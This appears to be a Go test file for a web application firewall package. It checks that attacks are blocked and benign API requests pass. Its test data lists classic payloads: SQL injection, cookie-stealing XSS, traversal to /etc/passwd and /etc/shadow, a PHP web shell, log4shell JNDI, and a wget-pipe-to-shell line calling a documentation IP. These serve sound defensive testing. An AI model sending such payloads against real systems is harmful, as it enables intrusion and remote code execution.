package waf_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/rampart-api/rampart"
	"github.com/rampart-api/rampart/audit"
	"github.com/rampart-api/rampart/problem"
	"github.com/rampart-api/rampart/waf"
)

// eventSink collects security events as decoded JSON lines. It is shared
// by the WAFs built once per test binary, so tests read events by request
// id.
type eventSink struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (s *eventSink) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.buf.Write(p)
}

func (s *eventSink) byRequest(id string) []map[string]any {
	s.mu.Lock()
	defer s.mu.Unlock()
	var out []map[string]any
	for _, line := range bytes.Split(s.buf.Bytes(), []byte("\n")) {
		if len(line) == 0 {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal(line, &m); err != nil {
			panic(err)
		}
		if m["request_id"] == id {
			out = append(out, m)
		}
	}
	return out
}

var (
	sink       = new(eventSink)
	events     = audit.NewLogger(slog.NewJSONHandler(sink, nil))
	requestSeq atomic.Uint64
	builtMu    sync.Mutex
	builtWAF   = map[string]*waf.Firewall{}
)

// build returns a WAF for cfg, built once per test binary: each build
// compiles the whole CRS.
func build(t testing.TB, name string, cfg waf.Config) *waf.Firewall {
	t.Helper()
	builtMu.Lock()
	defer builtMu.Unlock()
	if w, ok := builtWAF[name]; ok {
		return w
	}
	cfg.Events = events
	w, err := waf.New(cfg)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	builtWAF[name] = w
	return w
}

// upstream records what reached it.
type upstream struct {
	called bool
	body   []byte
}

func (u *upstream) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	u.called = true
	u.body, _ = io.ReadAll(r.Body)
	w.WriteHeader(http.StatusNoContent)
}

type reqCase struct {
	name        string
	method      string
	target      string
	contentType string
	body        string
	header      http.Header // set after the defaults, replacing them
}

func (c reqCase) request(t testing.TB) *http.Request {
	t.Helper()
	method := c.method
	if method == "" {
		method = http.MethodGet
		if c.body != "" {
			method = http.MethodPost
		}
	}
	var body io.Reader
	if c.body != "" {
		body = strings.NewReader(c.body)
	}
	r := httptest.NewRequest(method, c.target, body)
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) rampart-test")
	r.Header.Set("Accept", "application/json")
	if c.contentType != "" {
		r.Header.Set("Content-Type", c.contentType)
	}
	for k, vs := range c.header {
		r.Header[k] = vs
	}
	if c.body != "" {
		// A server's request keeps the header; httptest sets only the field.
		r.Header.Set("Content-Length", strconv.Itoa(len(c.body)))
	}
	r, info := rampart.WithInfo(r)
	info.RequestID = "req-" + strconv.FormatUint(requestSeq.Add(1), 10)
	info.ClientIP = netip.MustParseAddr("203.0.113.7")
	info.Route = "/api/search"
	return r
}

func jsonBody(field, value string) string {
	b, _ := json.Marshal(map[string]any{field: value, "page": 1})
	return string(b)
}

func formBody(field, value string) string {
	return url.Values{field: {value}}.Encode()
}

func q(value string) string {
	return "/api/search?q=" + url.QueryEscape(value)
}

const (
	ctJSON = "application/json"
	ctForm = "application/x-www-form-urlencoded"
)

// attacks are classic payloads, each in a query string, a JSON body and a
// form body.
var attacks = []struct{ name, payload string }{
	{"sqli tautology", "' OR 1=1--"},
	{"sqli union select", "1 UNION SELECT username, password FROM users--"},
	{"sqli stacked drop", "1; DROP TABLE users; --"},
	{"xss script tag", "<script>alert(1)</script>"},
	{"xss img onerror", `<img src=x onerror=alert(document.cookie)>`},
	{"xss javascript url", "javascript:alert(document.domain)"},
	{"xss svg onload", "<svg/onload=alert(1)>"},
	{"traversal etc passwd", "../../../../etc/passwd"},
	{"traversal encoded", "..%2f..%2f..%2fetc%2fpasswd"},
	{"traversal double encoded", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"},
	{"cmd semicolon cat", "; cat /etc/passwd"},
	{"cmd subshell id", "$(id)"},
	{"cmd backticks", "`cat /etc/passwd`"},
	{"cmd pipe wget", "| wget http://203.0.113.9/x.sh -O- | sh"},
}

func attackPayload(c reqCase) string {
	for _, a := range attacks {
		if strings.HasPrefix(c.name, a.name+" in ") {
			return a.payload
		}
	}
	panic("no payload for " + c.name)
}

func attackCases() []reqCase {
	var cs []reqCase
	for _, a := range attacks {
		cs = append(cs,
			reqCase{name: a.name + " in query", target: q(a.payload)},
			reqCase{name: a.name + " in JSON body", target: "/api/search", contentType: ctJSON, body: jsonBody("q", a.payload)},
			reqCase{name: a.name + " in form body", target: "/api/search", contentType: ctForm, body: formBody("q", a.payload)},
		)
	}
	return cs
}

// benign are ordinary API requests that paranoia level 1 must let through.
var benign = []reqCase{
	{name: "plain GET", target: "/api/search?q=rampart&limit=10"},
	{name: "name with apostrophe", target: "/api/users", contentType: ctJSON, body: `{"name":"Siobhán O'Brien","email":"siobhan.obrien@example.com"}`},
	{name: "apostrophe in query", target: q("O'Reilly books")},
	{name: "markdown with headings and links", target: "/api/notes", contentType: ctJSON, body: jsonBody("body", "# Release notes\n\n## Fixes\n\n- See [the changelog](https://example.com/changelog) for details.\n- **Bold** and _italic_ text.\n")},
	{name: "code snippet in a field", target: "/api/snippets", contentType: ctJSON, body: jsonBody("code", "func add(a, b int) int {\n\treturn a + b\n}\n")},
	{name: "utf-8 text", target: "/api/notes", contentType: ctJSON, body: jsonBody("body", "Grüße aus Köln — 東京で会いましょう 🙂")},
	{name: "numbers and nesting", target: "/api/orders", contentType: ctJSON, body: `{"items":[{"sku":"A-100","qty":3,"price":19.99},{"sku":"B-7","qty":1,"price":1e3}],"total":1059.97,"paid":false,"coupon":null}`},
	{name: "form with ordinary text", target: "/api/contact", contentType: ctForm, body: formBody("message", "Hello, I'd like to know more about your pricing. Thanks!")},
	{name: "PUT with JSON", method: http.MethodPut, target: "/api/users/7", contentType: "application/json; charset=utf-8", body: `{"display_name":"D'Angelo","bio":"Likes 5 > 3 and 2 < 4."}`},
	{name: "PATCH with JSON", method: http.MethodPatch, target: "/api/users/7", contentType: ctJSON, body: `{"timezone":"Europe/Dublin"}`},
	{name: "DELETE", method: http.MethodDelete, target: "/api/users/7/sessions/3"},
}

func TestAttacksBlocked(t *testing.T) {
	w := build(t, "default", waf.Config{})
	for _, c := range attackCases() {
		t.Run(c.name, func(t *testing.T) {
			r := c.request(t)
			rec := httptest.NewRecorder()
			up := new(upstream)
			w.Handler(up).ServeHTTP(rec, r)
			if rec.Code != http.StatusForbidden {
				t.Fatalf("status = %d, want 403", rec.Code)
			}
			if up.called {
				t.Fatal("upstream was called")
			}
			assertProblem(t, rec, c)
			evs := sink.byRequest(rampart.InfoFrom(r.Context()).RequestID)
			if len(evs) != 1 {
				t.Fatalf("events = %d, want 1", len(evs))
			}
			ev := evs[0]
			if ev["event"] != audit.WAFBlocked || ev["owasp"] != audit.OWASPMisconfig || ev["status"] != float64(403) || ev["client_ip"] != "203.0.113.7" {
				t.Fatalf("event = %v", ev)
			}
			line, _ := json.Marshal(ev)
			payload := attackPayload(c)
			if strings.Contains(string(line), payload) || strings.Contains(string(line), url.QueryEscape(payload)) {
				t.Fatalf("event carries the payload: %s", line)
			}
			ids, _ := ev["rule_ids"].([]any)
			if len(ids) < 2 || !contains(ids, float64(949110)) {
				t.Fatalf("rule_ids = %v, want the matched rules and 949110", ev["rule_ids"])
			}
			if score, _ := ev["anomaly_score"].(float64); score < 5 {
				t.Fatalf("anomaly_score = %v", ev["anomaly_score"])
			}
		})
	}
}

// shapedAttacks are requests as attackers send them beyond a payload in
// one field: in headers, behind bytes that are not UTF-8, against files
// that must not be served, from scanning tools.
var shapedAttacks = []reqCase{
	{name: "sqlmap user agent", target: "/api/search?q=tulips", header: http.Header{"User-Agent": {"sqlmap/1.8.2#stable (https://sqlmap.org)"}}},
	{name: "nikto user agent", target: "/api/search", header: http.Header{"User-Agent": {"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"}}},
	{name: "shellshock in user agent", target: "/api/search", header: http.Header{"User-Agent": {"() { :; }; /bin/bash -c 'cat /etc/passwd'"}}},
	{name: "log4shell in a header", target: "/api/search", header: http.Header{"X-Api-Version": {"${jndi:ldap://203.0.113.9/a}"}}},
	{name: "script tag behind an invalid byte", target: "/api/search?q=%FF%3Cscript%20%FF%3Ealert(document.cookie)%3C/script%3E"},
	{name: "sqli behind invalid bytes", target: "/api/search?q=%C3%28%FF1%27%20OR%20%271%27=%271"},
	{name: "traversal behind an invalid byte", target: "/api/files?path=%FF../../../../etc/shadow"},
	{name: "dotenv file", target: "/.env"},
	{name: "git config", target: "/.git/config"},
	{name: "php code in JSON", target: "/api/notes", contentType: ctJSON, body: jsonBody("body", "<?php system($_GET['c']); ?>")},
	{name: "java deserialization gadget", target: "/api/notes", contentType: ctJSON, body: jsonBody("body", "java.lang.Runtime.getRuntime().exec(\"id\")")},
	{name: "remote file include", target: "/api/render?template=http://203.0.113.9/shell.txt?"},
	{name: "xss in a cookie", target: "/api/search", header: http.Header{"Cookie": {"session=<script>alert(1)</script>"}}},
}

// TestShapedAttacksBlocked holds the configuration the package ships
// (paranoia 1, the RE2 @rx operator) to blocking each of shapedAttacks.
func TestShapedAttacksBlocked(t *testing.T) {
	w := build(t, "default", waf.Config{})
	for _, c := range shapedAttacks {
		t.Run(c.name, func(t *testing.T) {
			r := c.request(t)
			rec := httptest.NewRecorder()
			up := new(upstream)
			w.Handler(up).ServeHTTP(rec, r)
			if rec.Code != http.StatusForbidden || up.called {
				t.Fatalf("status = %d, upstream called = %v", rec.Code, up.called)
			}
			evs := sink.byRequest(rampart.InfoFrom(r.Context()).RequestID)
			if len(evs) != 1 {
				t.Fatalf("events = %d, want 1", len(evs))
			}
			if ids, _ := evs[0]["rule_ids"].([]any); !contains(ids, float64(949110)) {
				t.Fatalf("rule_ids = %v", evs[0]["rule_ids"])
			}
		})
	}
}

// assertProblem checks the refusal is a problem document that says
// nothing about the rules or the payload.
func assertProblem(t *testing.T, rec *httptest.ResponseRecorder, c reqCase) {
	t.Helper()
	if ct := rec.Header().Get("Content-Type"); ct != problem.ContentType {
		t.Fatalf("Content-Type = %q", ct)
	}
	body := rec.Body.String()
	for _, leak := range []string{"9421", "9411", "9301", "9321", "CRS", "Anomaly", "rule", "etc/passwd", "script", "SELECT"} {
		if strings.Contains(body, leak) {
			t.Fatalf("problem body leaks %q: %s", leak, body)
		}
	}
	if c.body != "" && strings.Contains(body, c.body) {
		t.Fatalf("problem body echoes the request body: %s", body)
	}
}

func TestBenignPasses(t *testing.T) {
	w := build(t, "default", waf.Config{})
	for _, c := range benign {
		t.Run(c.name, func(t *testing.T) {
			r := c.request(t)
			rec := httptest.NewRecorder()
			up := new(upstream)
			w.Handler(up).ServeHTTP(rec, r)
			if rec.Code != http.StatusNoContent || !up.called {
				t.Fatalf("status = %d, upstream called = %v; events: %v", rec.Code, up.called, sink.byRequest(rampart.InfoFrom(r.Context()).RequestID))
			}
			if string(up.body) != c.body {
				t.Fatalf("upstream body = %q, want %q", up.body, c.body)
			}
			if evs := sink.byRequest(rampart.InfoFrom(r.Context()).RequestID); len(evs) != 0 {
				t.Fatalf("events for a benign request: %v", evs)
			}
		})
	}
}

func contains(s []any, v any) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}

func TestDetectOnlyPassesAndEmits(t *testing.T) {
	w := build(t, "detect", waf.Config{DetectOnly: true})
	for _, c := range attackCases() {
		t.Run(c.name, func(t *testing.T) {
			r := c.request(t)
			rec := httptest.NewRecorder()
			up := new(upstream)
			w.Handler(up).ServeHTTP(rec, r)
			if rec.Code != http.StatusNoContent || !up.called || string(up.body) != c.body {
				t.Fatalf("status = %d, upstream called = %v, body = %q", rec.Code, up.called, up.body)
			}
			evs := sink.byRequest(rampart.InfoFrom(r.Context()).RequestID)
			if len(evs) != 1 {
				t.Fatalf("events = %d, want 1", len(evs))
			}
			ev := evs[0]
			if ev["event"] != audit.WAFBlocked || ev["detect_only"] != true || ev["status"] != nil || !strings.HasPrefix(ev["reason"].(string), "detect only: ") {
				t.Fatalf("event = %v", ev)
			}
			if ids, _ := ev["rule_ids"].([]any); !contains(ids, float64(949110)) {
				t.Fatalf("rule_ids = %v", ev["rule_ids"])
			}
		})
	}
}

func TestTuning(t *testing.T) {
	tautology := reqCase{name: "tautology", target: q("' OR 1=1--")}
	union := reqCase{name: "union", target: q("1 UNION SELECT username, password FROM users--")}
	tests := []struct {
		name   string
		cfg    waf.Config
		c      reqCase
		status int
	}{
		{"excluded rule no longer blocks", waf.Config{Exclusions: []int{942100}}, tautology, http.StatusNoContent},
		{"exclusion leaves the other rules", waf.Config{Exclusions: []int{942100}}, union, http.StatusForbidden},
		{"higher threshold lets a single critical match pass", waf.Config{AnomalyThreshold: 10}, tautology, http.StatusNoContent},
		{"higher threshold still blocks several matches", waf.Config{AnomalyThreshold: 10}, union, http.StatusForbidden},
		{"paranoia 4 blocks what level 1 blocks", waf.Config{ParanoiaLevel: 4}, tautology, http.StatusForbidden},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := build(t, tt.name, tt.cfg)
			rec := httptest.NewRecorder()
			w.Handler(new(upstream)).ServeHTTP(rec, tt.c.request(t))
			if rec.Code != tt.status {
				t.Fatalf("status = %d, want %d", rec.Code, tt.status)
			}
		})
	}
}

// chunked makes r look like a request without Content-Length whose body
// the WAF cannot size in advance.
func chunked(r *http.Request) *http.Request {
	r.ContentLength = -1
	r.Header.Del("Content-Length")
	r.TransferEncoding = []string{"chunked"}
	r.Body = io.NopCloser(struct{ io.Reader }{r.Body})
	return r
}

func TestBodyLimit(t *testing.T) {
	const limit = 64
	exact := `{"note":"` + strings.Repeat("a", limit-11) + `"}`
	over := `{"note":"` + strings.Repeat("a", limit-10) + `"}`
	if len(exact) != limit || len(over) != limit+1 {
		t.Fatal("bad fixture")
	}
	tests := []struct {
		name   string
		detect bool
		body   string
		chunk  bool
		status int
	}{
		{"body at the limit passes", false, exact, false, http.StatusNoContent},
		{"chunked body at the limit passes", false, exact, true, http.StatusNoContent},
		{"declared length over the limit", false, over, false, http.StatusRequestEntityTooLarge},
		{"chunked body over the limit", false, over, true, http.StatusRequestEntityTooLarge},
		{"detect only: declared length over the limit", true, over, false, http.StatusRequestEntityTooLarge},
		{"detect only: chunked body over the limit is not passed half-inspected", true, over, true, http.StatusRequestEntityTooLarge},
		{"detect only: chunked body at the limit passes", true, exact, true, http.StatusNoContent},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			name := "limit"
			if tt.detect {
				name = "limit detect"
			}
			w := build(t, name, waf.Config{MaxBodyBytes: limit, DetectOnly: tt.detect})
			r := reqCase{target: "/api/notes", contentType: ctJSON, body: tt.body}.request(t)
			if tt.chunk {
				r = chunked(r)
			}
			rec := httptest.NewRecorder()
			up := new(upstream)
			w.Handler(up).ServeHTTP(rec, r)
			if rec.Code != tt.status {
				t.Fatalf("status = %d, want %d", rec.Code, tt.status)
			}
			if tt.status == http.StatusNoContent && string(up.body) != tt.body {
				t.Fatalf("upstream body = %q", up.body)
			}
			if tt.status != http.StatusNoContent && up.called {
				t.Fatal("upstream was called")
			}
		})
	}
}

func TestLargeBodyPassedIntact(t *testing.T) {
	// Bigger than any single read, so the replayed body spans Coraza's
	// buffer and several reads.
	w := build(t, "default", waf.Config{})
	var sb strings.Builder
	sb.WriteString(`{"items":[`)
	for i := 0; i < 300; i++ {
		if i > 0 {
			sb.WriteByte(',')
		}
		sb.WriteString(`{"id":` + strconv.Itoa(i) + `,"name":"item number ` + strconv.Itoa(i) + `"}`)
	}
	sb.WriteString(`]}`)
	body := sb.String()
	for _, chunk := range []bool{false, true} {
		r := reqCase{target: "/api/items", contentType: ctJSON, body: body}.request(t)
		if chunk {
			r = chunked(r)
		}
		rec := httptest.NewRecorder()
		up := new(upstream)
		w.Handler(up).ServeHTTP(rec, r)
		if rec.Code != http.StatusNoContent || string(up.body) != body {
			t.Fatalf("chunked=%v: status = %d, body intact = %v", chunk, rec.Code, string(up.body) == body)
		}
	}
}

func TestUnparsableBodyRefused(t *testing.T) {
	// A body the WAF cannot parse is a body it did not inspect.
	w := build(t, "default", waf.Config{})
	for _, body := range []string{`{"q": "unterminated`, `{"a":1}}`, "\x00\x01\x02"} {
		rec := httptest.NewRecorder()
		up := new(upstream)
		w.Handler(up).ServeHTTP(rec, reqCase{target: "/api/search", contentType: ctJSON, body: body}.request(t))
		if rec.Code != http.StatusBadRequest || up.called {
			t.Fatalf("%q: status = %d, upstream called = %v", body, rec.Code, up.called)
		}
	}
}

func TestArgumentFloodRefused(t *testing.T) {
	// Coraza keeps 1000 arguments per source; a payload after 1000
	// fillers would otherwise never be inspected.
	w := build(t, "default", waf.Config{})
	var query, form strings.Builder
	var js strings.Builder
	js.WriteString(`{`)
	for i := 0; i < 1000; i++ {
		query.WriteString("f" + strconv.Itoa(i) + "=1&")
		form.WriteString("f" + strconv.Itoa(i) + "=1&")
		js.WriteString(`"f` + strconv.Itoa(i) + `":1,`)
	}
	query.WriteString("q=" + url.QueryEscape("' OR 1=1--"))
	form.WriteString("q=" + url.QueryEscape("' OR 1=1--"))
	js.WriteString(`"q":"' OR 1=1--"}`)
	for _, c := range []reqCase{
		{name: "query", target: "/api/search?" + query.String()},
		{name: "form", target: "/api/search", contentType: ctForm, body: form.String()},
		{name: "json", target: "/api/search", contentType: ctJSON, body: js.String()},
	} {
		t.Run(c.name, func(t *testing.T) {
			rec := httptest.NewRecorder()
			up := new(upstream)
			w.Handler(up).ServeHTTP(rec, c.request(t))
			if rec.Code != http.StatusBadRequest || up.called {
				t.Fatalf("status = %d, upstream called = %v", rec.Code, up.called)
			}
		})
	}
}

type failingBody struct{ err error }

func (b failingBody) Read([]byte) (int, error) { return 0, b.err }
func (failingBody) Close() error               { return nil }

func TestBodyErrorsFailClosed(t *testing.T) {
	var logs bytes.Buffer
	cfg := waf.Config{Events: events, Log: slog.New(slog.NewJSONHandler(&logs, nil))}
	w, err := waf.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	tests := []struct {
		name   string
		body   func(r *http.Request) io.ReadCloser
		status int
		logged bool
	}{
		{"connection reset mid-body", func(*http.Request) io.ReadCloser {
			return failingBody{errors.New("read tcp 10.0.0.1:8080: connection reset by peer")}
		}, http.StatusInternalServerError, true},
		{"gateway body cap exceeded", func(r *http.Request) io.ReadCloser {
			return http.MaxBytesReader(httptest.NewRecorder(), r.Body, 10)
		}, http.StatusRequestEntityTooLarge, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			logs.Reset()
			r := chunked(reqCase{target: "/api/notes", contentType: ctJSON, body: `{"note":"hello there"}`}.request(t))
			r.Body = tt.body(r)
			rec := httptest.NewRecorder()
			up := new(upstream)
			w.Handler(up).ServeHTTP(rec, r)
			if rec.Code != tt.status || up.called {
				t.Fatalf("status = %d, upstream called = %v", rec.Code, up.called)
			}
			if rec.Header().Get("Content-Type") != problem.ContentType || strings.Contains(rec.Body.String(), "10.0.0.1") {
				t.Fatalf("response = %s", rec.Body)
			}
			id := rampart.InfoFrom(r.Context()).RequestID
			if got := strings.Contains(logs.String(), `"request_id":"`+id+`"`); got != tt.logged {
				t.Fatalf("logged = %v, want %v: %s", got, tt.logged, logs.String())
			}
		})
	}
}

func TestNilWAFPassesThrough(t *testing.T) {
	var w *waf.Firewall
	up := new(upstream)
	rec := httptest.NewRecorder()
	w.Handler(up).ServeHTTP(rec, reqCase{target: q("' OR 1=1--")}.request(t))
	if rec.Code != http.StatusNoContent || !up.called || w.Close() != nil {
		t.Fatalf("status = %d", rec.Code)
	}
}

func TestErrorHandlerHook(t *testing.T) {
	var got error
	w, err := waf.New(waf.Config{ErrorHandler: func(w http.ResponseWriter, r *http.Request, err error) {
		got = err
		w.WriteHeader(http.StatusTeapot)
	}})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	rec := httptest.NewRecorder()
	w.Handler(new(upstream)).ServeHTTP(rec, reqCase{target: q("<script>alert(1)</script>")}.request(t))
	var p *problem.Error
	if rec.Code != http.StatusTeapot || !errors.As(got, &p) || p.Status != http.StatusForbidden {
		t.Fatalf("status = %d, err = %v", rec.Code, got)
	}
}

func TestCorazaWritesNothing(t *testing.T) {
	// Coraza's audit log would record headers and bodies, its debug log
	// matched data; both must be off. Bodies must stay in memory: the
	// temporary directory Coraza would spill to is gone once the WAF is
	// built, so any attempt to write there fails the request.
	tmp := filepath.Join(t.TempDir(), "tmp")
	if err := os.Mkdir(tmp, 0o700); err != nil {
		t.Fatal(err)
	}
	t.Setenv("TMPDIR", tmp)
	stdout, stderr := os.Stdout, os.Stderr
	pr, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	os.Stdout, os.Stderr = pw, pw
	captured := make(chan []byte)
	go func() {
		b, _ := io.ReadAll(pr)
		captured <- b
	}()
	// Over Coraza's recommended 128 KiB in-memory limit, under its
	// argument limit; numbers keep the inspection cheap.
	reading := strings.Repeat("1234567890", 16)
	big := `{"readings":[` + strings.Repeat(reading+",", 900) + reading + `]}`
	tests := []struct {
		c      reqCase
		status int
	}{
		{reqCase{target: "/api/readings", contentType: ctJSON, body: big}, http.StatusNoContent},
		{reqCase{target: "/api/notes", contentType: ctJSON, body: jsonBody("q", "' OR 1=1-- secret-body-value")}, http.StatusForbidden},
		{reqCase{target: "/api/notes", contentType: ctForm, body: formBody("note", "<script>alert(1)</script>secret-body-value")}, http.StatusForbidden},
	}
	func() {
		defer func() { os.Stdout, os.Stderr = stdout, stderr }()
		w, err := waf.New(waf.Config{MaxBodyBytes: 1 << 20})
		if err != nil {
			t.Error(err)
			return
		}
		defer w.Close()
		if err := os.Remove(tmp); err != nil {
			t.Error(err)
			return
		}
		for _, tt := range tests {
			for _, chunk := range []bool{false, true} {
				r := tt.c.request(t)
				if chunk {
					r = chunked(r)
				}
				rec := httptest.NewRecorder()
				up := new(upstream)
				w.Handler(up).ServeHTTP(rec, r)
				if rec.Code != tt.status || (up.called && string(up.body) != tt.c.body) {
					t.Errorf("%s chunked=%v: status = %d, want %d", tt.c.target, chunk, rec.Code, tt.status)
				}
			}
		}
	}()
	pw.Close()
	if out := <-captured; len(out) != 0 {
		t.Fatalf("Coraza wrote to stdout/stderr: %.200s", out)
	}
}

// TestConcurrentVerdicts runs the same requests from many goroutines at
// once: the shared rule set and its compiled patterns (RE2's caches among
// them) must give every request the verdict it gets alone.
func TestConcurrentVerdicts(t *testing.T) {
	w := build(t, "default", waf.Config{})
	cases := append(append(attackCases(), benign...), shapedAttacks...)
	want := make([]int, len(cases))
	for i, c := range cases {
		rec := httptest.NewRecorder()
		w.Handler(new(upstream)).ServeHTTP(rec, c.request(t))
		want[i] = rec.Code
	}
	const workers = 4
	var wg sync.WaitGroup
	errs := make(chan string, workers*len(cases))
	for g := range workers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for k := range cases {
				i := (k*7 + g*13) % len(cases)
				rec := httptest.NewRecorder()
				w.Handler(new(upstream)).ServeHTTP(rec, cases[i].request(t))
				if rec.Code != want[i] {
					errs <- cases[i].name + ": status " + strconv.Itoa(rec.Code) + ", alone " + strconv.Itoa(want[i])
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Error(e)
	}
}
